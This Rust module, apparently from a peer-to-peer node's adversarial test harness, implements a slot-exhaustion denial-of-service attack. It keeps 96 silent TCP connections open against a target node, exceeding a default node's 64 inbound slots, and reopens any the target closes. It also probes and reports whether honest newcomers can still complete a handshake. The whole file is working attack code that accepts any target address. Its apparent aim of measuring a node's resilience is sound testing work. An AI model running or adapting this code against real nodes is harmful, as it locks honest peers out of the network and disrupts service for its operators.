//! Slot exhaustion: hold every inbound slot of the target with sockets that never start a handshake.
//!
//! A node accepts a bounded number of inbound connections, handshakes included, and gives a silent
//! socket the whole handshake timeout. `SOCKETS` sockets from the attackers' address connect to the
//! target and say nothing; each one the target closes is opened again at once. Meanwhile, every
//! `PROBE_EVERY`, a fresh honest-looking identity (from the honest nodes' address) connects and
//! completes the handshake: the report counts how many could.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::net::TcpSocket;
use tokio::time::Instant;

use crate::sybil::{ATTACKER_IP, Sybil};
use crate::{Report, Result};

/// Silent sockets kept open at once: more than a default node's 64 inbound slots.
const SOCKETS: usize = 96;
/// How often a newcomer tries to connect.
const PROBE_EVERY: Duration = Duration::from_millis(500);
/// Pause before a closed or refused socket is opened again.
const REOPEN_DELAY: Duration = Duration::from_millis(50);

/// Runs the attack against `target` until `deadline`.
pub async fn run(target: SocketAddr, deadline: Instant, report: &mut Report) -> Result<()> {
    let opened = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for _ in 0..SOCKETS {
        let opened = opened.clone();
        tasks.push(tokio::spawn(async move {
            while Instant::now() < deadline {
                if let Ok(mut socket) = silent_socket(target).await {
                    opened.fetch_add(1, Ordering::Relaxed);
                    let mut buf = [0u8; 256];
                    // Held until the target closes it (a read of 0 or an error) or the attack ends.
                    loop {
                        tokio::select! {
                            read = socket.read(&mut buf) => if !matches!(read, Ok(n) if n > 0) { break },
                            () = tokio::time::sleep_until(deadline) => return,
                        }
                    }
                }
                tokio::time::sleep(REOPEN_DELAY).await;
            }
        }));
    }
    let (mut probes, mut admitted) = (0u64, 0u64);
    // Let the sockets take their slots first.
    tokio::time::sleep(Duration::from_secs(1)).await;
    while Instant::now() + PROBE_EVERY < deadline {
        probes += 1;
        if let Ok(newcomer) = Sybil::connect(target).await {
            admitted += 1;
            newcomer.close().await;
        }
        tokio::time::sleep(PROBE_EVERY).await;
    }
    for task in tasks {
        let _ = task.await;
    }
    report.add("sockets_opened", opened.load(Ordering::Relaxed));
    report.add("newcomers_tried", probes);
    report.add("newcomers_admitted", admitted);
    Ok(())
}

/// A TCP connection to `target` from the attackers' address.
async fn silent_socket(target: SocketAddr) -> std::io::Result<tokio::net::TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(SocketAddr::from((ATTACKER_IP, 0)))?;
    socket.connect(target).await
}
